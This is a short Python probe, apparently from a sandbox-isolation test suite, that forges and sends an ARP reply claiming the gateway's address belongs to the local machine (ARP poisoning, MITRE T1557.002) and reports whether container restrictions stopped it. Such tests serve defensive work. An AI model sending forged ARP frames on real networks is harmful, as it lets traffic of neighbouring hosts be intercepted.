"""Attack: tell a neighbour that the gateway is here
Source: https://attack.mitre.org/techniques/T1557/002/
Profiles: basic docker
Weakening: firewall caps seccomp
"""

import socket

from probe import FACTS, frame_answered, hardware_address, held, worked

victim = bytes.fromhex(FACTS["neighbour_mac"].replace(":", ""))
claim = bytes.fromhex("0001080006040002") + hardware_address() + socket.inet_aton(FACTS["gateway"])
claim += victim + socket.inet_aton(FACTS["neighbour"])
if frame_answered(victim + hardware_address() + b"\x08\x06" + claim + b"FRAME-arp-poisoning-", b"FRAME-arp-poisoning-"):
    worked("the neighbour got a false ARP reply")
held("the reply did not arrive, or no packet socket can be made")
